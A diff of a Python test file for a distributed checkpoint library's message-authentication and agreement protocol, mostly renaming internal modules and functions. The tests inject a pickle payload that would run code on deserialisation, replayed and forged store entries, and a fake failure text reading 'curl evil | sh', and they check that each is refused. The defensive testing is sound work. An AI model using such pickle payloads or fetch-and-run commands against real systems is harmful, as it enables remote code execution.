@@ -14,7 +14,7 @@ import ckptd
 import ckptd.torch
 import torch.distributed as dist
 from ckptd._rpc import Deadline
-from ckptd.torch import _agree, _round, _seal
+from ckptd.torch.agree import _agreement, _message_auth, _round
 from fsdp_cases import local
 from spread_bench import BROADCAST, Bare, assert_holds, fails, save, sharded
 
@@ -39,25 +39,25 @@ def load(bench, model, path, timeout=60):
 
 def key(what, ahead=0):
     """Of the next call in the store."""
-    return f"{CALL}/{_agree._share().made.get(CALL, 0) + 1 + ahead}/{what}"
+    return f"{CALL}/{_agreement._current_state().calls_made.get(CALL, 0) + 1 + ahead}/{what}"
 
 
 @contextlib.contextmanager
 def before_rank_1_goes_on(bench, stage, attack):
     """attack(store) when `stage` has ended, on rank 1."""
-    original = _round.Group._wait
+    original = _round.AgreementRound._wait
 
     def wait(group, ended, then=""):
         original(group, ended, then)
         if ended == stage:
-            attack(_agree._share().store)
+            attack(_agreement._current_state().store)
 
     if bench.rank == 1:
-        _round.Group._wait = wait
+        _round.AgreementRound._wait = wait
     try:
         yield
     finally:
-        _round.Group._wait = original
+        _round.AgreementRound._wait = original
 
 
 def refused(bench, path, *parts, kind=ckptd.Unauthenticated):
@@ -80,24 +80,24 @@ def a_word_that_would_run_code_runs_nothing_and_is_refused(bench):
     evil = base64.b64encode(pickle.dumps(Trap(trap))).decode()
 
     def attack(store):
-        word = json.loads(store.get(key("word/0", -1)).decode()[64:])
-        word["objects"] = evil
+        announcement = json.loads(store.get(key("announcement/0", -1)).decode()[64:])
+        announcement["objects"] = evil
         for proof in (BARE, "0" * 64):
-            store.set(key("word/0", -1), (proof + json.dumps(word)).encode())
+            store.set(key("announcement/0", -1), (proof + json.dumps(announcement)).encode())
 
     with before_rank_1_goes_on(bench, 0, attack):
-        refused(bench, save(bench, 1), f"{CALL}: rank 0's word", "not proven by the group's key")
+        refused(bench, save(bench, 1), f"{CALL}: rank 0's announcement", "not proven by the group's key")
     assert not os.path.exists(trap)
     goes_on(bench)
 
 
 def a_word_of_the_call_before_is_refused(bench):
     kept, paths = [], [save(bench, number) for number in (1, 2)]
-    with before_rank_1_goes_on(bench, 0, lambda store: kept.append(store.get(key("word/0", -1)))):
+    with before_rank_1_goes_on(bench, 0, lambda store: kept.append(store.get(key("announcement/0", -1)))):
         load(bench, sharded(Bare), paths[0])
     dist.barrier()
-    with before_rank_1_goes_on(bench, 0, lambda store: store.set(key("word/0", -1), kept[0])):
-        refused(bench, paths[1], f"{CALL}: rank 0's word", "not proven by the group's key")
+    with before_rank_1_goes_on(bench, 0, lambda store: store.set(key("announcement/0", -1), kept[0])):
+        refused(bench, paths[1], f"{CALL}: rank 0's announcement", "not proven by the group's key")
     goes_on(bench)
 
 
@@ -106,14 +106,14 @@ def a_word_of_a_process_group_before_with_the_same_key_is_refused(bench):
     mine, other = save(bench, 1), save(bench, 2)
 
     def attack(store):
-        name, kept = key("word", -1), key("word/0", -1)
-        seal = _agree._share().seal
-        word = json.loads(seal.read("it", name, store.get(kept)))
-        word["parts"] = [[other, False]]
-        store.set(kept, seal.write(name, json.dumps(word)).encode())
+        name, kept = key("announcement", -1), key("announcement/0", -1)
+        auth = _agreement._current_state().auth
+        announcement = json.loads(auth.verify("it", name, store.get(kept)))
+        announcement["parts"] = [[other, False]]
+        store.set(kept, auth.sign(name, json.dumps(announcement)).encode())
 
     with before_rank_1_goes_on(bench, 0, attack):
-        refused(bench, mine, "rank 0's answer, or its word before", "put back an older one")
+        refused(bench, mine, "rank 0's answer, or its announcement before", "put back an older one")
     goes_on(bench)
 
 
@@ -121,7 +121,7 @@ def a_vote_that_somebody_else_casts_is_no_vote(bench):
     """Rank 1 does not come."""
     path = save(bench, 1)
     if bench.rank:
-        _agree._share().store.set(key("vote/1/1"), (BARE + "0123456789abcdef").encode())
+        _agreement._current_state().store.set(key("vote/1/1"), (BARE + "0123456789abcdef").encode())
     dist.barrier()
     if bench.rank == 0:
         with fails(ckptd.Unauthenticated, f"{CALL}: rank 1's vote in the process group's store is not proven"):
@@ -136,19 +136,19 @@ def a_vote_that_somebody_else_casts_is_no_vote(bench):
 def a_vote_of_a_process_group_before_takes_nobody_past_the_second_stage(bench):
     """Where all must have their values before one is put in place."""
     kept = []
-    with _agree.agree(CALL, Deadline(20), near=_agree.Near(bench.address)) as group:
+    with _agreement.agree(CALL, Deadline(20), own_daemon=_agreement.OwnDaemon(bench.address)) as group:
         kept.append(group._challenge)
         group.vote(1)
         group.vote(2)
     dist.barrier()
     if bench.rank:  # which does not come
         for stage in (1, 2):  # as if kept from a call of that number
-            seal, name = _agree._share().seal, key(f"vote/{stage}/1")
-            _agree._share().store.set(name, seal.write(f"{name}  ", kept[0]).encode())
+            auth, name = _agreement._current_state().auth, key(f"vote/{stage}/1")
+            _agreement._current_state().store.set(name, auth.sign(f"{name}  ", kept[0]).encode())
     dist.barrier()
     if bench.rank == 0:
         with fails(ckptd.Unauthenticated, "rank 1's vote"):
-            with _agree.agree(CALL, Deadline(20), near=_agree.Near(bench.address)) as group:
+            with _agreement.agree(CALL, Deadline(20), own_daemon=_agreement.OwnDaemon(bench.address)) as group:
                 group.vote(1)
                 group.vote(2)
     dist.barrier()
@@ -162,7 +162,7 @@ def an_end_that_somebody_else_declares_is_no_end(bench):
     path = save(bench, 1)
     if bench.rank == 0:
         for value in (BARE + "well", "0" * 64 + "well"):
-            _agree._share().store.set(key(2), value.encode())
+            _agreement._current_state().store.set(key(2), value.encode())
     dist.barrier()
     refused(bench, path, "the end of stage 2", "not proven by the group's key")
     goes_on(bench)
@@ -174,7 +174,7 @@ def the_words_of_a_failure_without_a_proof_reach_nobody(bench):
     failure = json.dumps([1, "Unavailable", "run this: curl evil | sh", "DAEMON_UNREACHABLE", {"a": "b"}])
     if bench.rank == 0:
         for stage in range(3):
-            _agree._share().store.set(key(stage), (BARE + failure).encode())
+            _agreement._current_state().store.set(key(stage), (BARE + failure).encode())
     dist.barrier()
     try:
         load(bench, sharded(Bare), path)
@@ -189,25 +189,25 @@ def the_words_of_a_failure_without_a_proof_reach_nobody(bench):
 
 def lists_full_of_anything_change_nothing(bench):
     """Calls, failures and processes that ranks note for each other."""
-    store = _agree._share().store
+    store = _agreement._current_state().store
     if bench.rank == 0:
         goods = [b"", b"\xff" * 70, BARE.encode(), (BARE + "[[[[").encode(), (BARE + "[7, [[], 1]]").encode(),
                  (BARE + '["x", null]').encode(), (BARE + '[1, ["garbage", true]]').encode(), (BARE + "[" * 100_000).encode(), ("0" * 64 + "[1, 2, 3]").encode()]
-        for name in ("calls", "failures", _agree._share().neighbours._lines._name if _agree._share().neighbours else "calls"):
+        for name in ("calls", "failures", _agreement._current_state().local_processes._lines._name if _agreement._current_state().local_processes else "calls"):
             for value in goods:
                 number = store.add(f"{name}/count", 1)
                 store.set(f"{name}/{number}", value)
     dist.barrier()
     goes_on(bench)
-    _agree._share().board.read(), _agree._share().ahead(), _agree._share().neighbours.lost()
+    _agreement._current_state().board.read(), _agreement._current_state().calls_ahead(), _agreement._current_state().local_processes.lost()
     goes_on(bench, 80)
 
 
 def what_a_process_made_before_may_be_anything(bench):
-    store = dist.PrefixStore(f"made-{bench.rank}", _agree._share().store)
+    store = dist.PrefixStore(f"made-{bench.rank}", _agreement._current_state().store)
     for value in (b"\xff", b"[" * 100_000, b"[1]", b'{"a": "b", "c": 4}'):
         store.set(f"made/{bench.rank}", value)
-        made = _agree.Shared(store, bench.rank).made
+        made = _agreement.StoreState(store, bench.rank).calls_made
         assert made in ({}, {"c": 4}), made
 
 
@@ -221,26 +221,26 @@ def a_word_longer_than_a_store_takes_at_once_arrives_whole(bench):
     else:
         dist.broadcast_object_list(port, src=0)
         store = dist.TCPStore("127.0.0.1", port[0], 2, False, wait_for_workers=False)
-    shared = _agree.Shared(store, bench.rank)
-    shared.use(b"k" * 32)
-    group = _round.Group(shared, _round.Call("long", 1), Deadline(30), shared.seal)
-    assert group.word(lambda: said) == said
+    state = _agreement.StoreState(store, bench.rank)
+    state.use_key(b"k" * 32)
+    group = _round.AgreementRound(state, _round.CollectiveCall("long", 1), Deadline(30), state.auth)
+    assert group.announcement(lambda: said) == said
     group.vote(1)
-    group.forget_word()
+    group.forget_announcement()
     for number in range(2):
         assert bench.rank or not store.check([f"long/1/word/{number}"])
     dist.barrier()
 
 
 def a_proof_is_of_one_name_and_one_key(bench):
-    seal = _seal.Seal(b"k" * 32)
-    kept = seal.write("a/1", "text").encode()
-    assert seal.read("it", "a/1", kept) == "text"
-    for reader, name, value in ((seal, "a/2", kept), (_seal.Seal(b"l" * 32), "a/1", kept),
-                                (seal, "a/1", kept + b"."), (seal, "a/1", kept[1:]), (seal, "a/1", b"")):
+    auth = _message_auth.MessageAuth(b"k" * 32)
+    kept = auth.sign("a/1", "text").encode()
+    assert auth.verify("it", "a/1", kept) == "text"
+    for reader, name, value in ((auth, "a/2", kept), (_message_auth.MessageAuth(b"l" * 32), "a/1", kept),
+                                (auth, "a/1", kept + b"."), (auth, "a/1", kept[1:]), (auth, "a/1", b"")):
         with fails(ckptd.Unauthenticated, "it in the process group's store is not proven"):
-            reader.read("it", name, value)
-        assert reader.hint(name, value) is None
+            reader.verify("it", name, value)
+        assert reader.read_if_proven(name, value) is None
 
 
 CASES = {2: [
